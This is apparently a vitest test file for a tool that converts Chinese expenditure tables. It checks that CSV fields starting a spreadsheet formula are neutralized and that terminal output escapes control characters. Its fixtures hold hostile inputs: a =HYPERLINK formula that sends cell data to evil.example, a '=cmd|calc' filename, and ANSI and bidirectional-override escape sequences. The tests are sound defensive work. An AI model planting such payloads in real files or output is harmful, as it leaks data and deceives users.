/**
 * Outputs are safe to open (issue #13.5): CSV fields that would start a spreadsheet formula are neutralized
 * (numbers excepted), and text from the inputs reaches the terminal with its control characters escaped.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runBatch } from '../../src/batch/run.js';
import { renderTables } from '../../src/cli/inspect.js';
import { escapeControls, escapeJson } from '../../src/cli/terminal.js';
import { csvField } from '../../src/emit/csv.js';
import { parse } from '../../src/parse.js';
import { ROOT } from '../helpers/paths.js';

const tmp = (prefix: string) => mkdtempSync(join(tmpdir(), prefix));
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;
/** Characters a terminal must never receive raw from an input (line feed excepted). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what these tests look for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;

/** A 支出总表 fragment whose labels are formulas, with a negative amount. */
const HOSTILE_TSV = [
  '支出总表',
  '单位：万元',
  '科目编码\t科目名称\t合计\t基本支出\t项目支出',
  '\t合计\t-12.50\t-12.50\t',
  '201\t=HYPERLINK("http://evil.example/?"&A1,"点击")\t-12.50\t-12.50\t',
  '20101\t+1+1\t1.00\t1.00\t',
  '2010101\t-2+3\t2.00\t2.00\t',
  '2010102\t@SUM(1+1)\t3.00\t3.00\t',
  '',
].join('\n');

describe('CSV formula injection', () => {
  it('csvField neutralizes formula starts and leaves plain numbers as they are', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\rx')).toBe('"\'\rx"');
    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
    expect(csvField('-12.50')).toBe('-12.50');
    expect(csvField('-0')).toBe('-0');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('合计')).toBe('合计');
    expect(csvField('=1+1', false, { raw: true })).toBe('=1+1');
  });

  it('summary.csv and tables.csv: no field starts a formula; negative amounts stay numbers; --csv-raw keeps the text', async () => {
    const dir = tmp('inject-in-');
    writeFileSync(join(dir, '=cmd|calc.tsv'), HOSTILE_TSV);
    const out = tmp('inject-out-');
    const report = await runBatch({ inputs: [dir], out, jobs: 1 });
    expect(report.counts.converted).toBe(1);
    for (const name of ['summary.csv', 'tables.csv']) {
      const rows = parseCsv(readFileSync(join(out, name), 'utf8'), {
        relax_column_count: true,
      }) as string[][];
      expect(rows.length, name).toBeGreaterThan(1);
      for (const field of rows.flat())
        if (FORMULA.test(field))
          expect(PLAIN_NUMBER.test(field), `${name}: ${JSON.stringify(field)}`).toBe(true);
    }
    const tables = parseCsv(readFileSync(join(out, 'tables.csv'), 'utf8'), { columns: true }) as Record<
      string,
      string
    >[];
    const labels = new Set(tables.map((row) => row.label));
    expect(labels).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
    expect(labels).toContain("'+1+1");
    expect(labels).toContain("'-2+3");
    expect(labels).toContain("'@SUM(1+1)");
    expect(tables[0]!.file).toBe("'=cmd|calc.tsv");
    // Amounts: exact negative numbers, untouched.
    expect(tables.filter((row) => row.value === '-12.50').length).toBeGreaterThan(0);
    expect(tables.filter((row) => row.value?.startsWith("'")).length).toBe(0);
    // The JSON keeps the text as printed.
    expect(readFileSync(join(out, `${report.documents[0]!.output}.json`), 'utf8')).toContain(
      '"label":"+1+1"',
    );

    const raw = await runBatch({ inputs: [dir], out, jobs: 1, resume: true, csv: { raw: true } });
    expect(raw.counts.converted).toBe(1); // content options changed: converted again
    const rawTables = readFileSync(join(out, 'tables.csv'), 'utf8');
    expect(rawTables).toContain(',"+1+1",'); // quoted as text that looks like a number, not neutralized
    expect(rawTables).not.toContain("'+1+1");
  });
});

describe('terminal escapes', () => {
  it('escapes ESC, C1 and bidirectional overrides, keeps line feeds and Chinese', () => {
    expect(escapeControls('红\x1b[31m字\u009b2J\u202egnp.exe\n下一行\x07')).toBe(
      '红\\x1b[31m字\\x9b2J\\u202egnp.exe\n下一行\\x07',
    );
    const json = escapeJson(JSON.stringify({ label: 'a\u202eb\u0085c' }));
    expect(json).toBe('{"label":"a\\u202eb\\u0085c"}');
    expect(JSON.parse(json)).toEqual({ label: 'a\u202eb\u0085c' });
  });

  it('inspect shows labels, titles and file names with their escapes, aligned', () => {
    const text =
      '支出总表\x1b]0;pwned\x07\n单位：万元\n科目名称\t合计\n合计\t1.00\n\x1b[2J清屏\u202e\t1.00\n';
    const { document } = parse(text, {
      filename: 'evil\x1b[31m.tsv',
      format: 'tsv',
      kind: 'expenditure-summary',
    });
    const output = renderTables(document);
    expect(output).not.toMatch(RAW_CONTROL);
    expect(output).toContain('evil\\x1b[31m.tsv');
    expect(output).toContain('\\x1b[2J清屏\\u202e');
  });

  it('the CLI escapes file names and messages on stderr', () => {
    const dir = tmp('escape-');
    const file = join(dir, 'bad\x1b[31m\u202e.pdf');
    writeFileSync(file, 'GIF89a not a pdf');
    const result = spawnSync(
      join(ROOT, 'node_modules/.bin/tsx'),
      [join(ROOT, 'src/cli/bin.ts'), 'inspect', file],
      {
        encoding: 'utf8',
      },
    );
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('pdf-not-a-pdf');
    expect(result.stderr).toContain('bad\\x1b[31m\\u202e.pdf');
    expect(result.stderr).not.toMatch(RAW_CONTROL);
  });
});
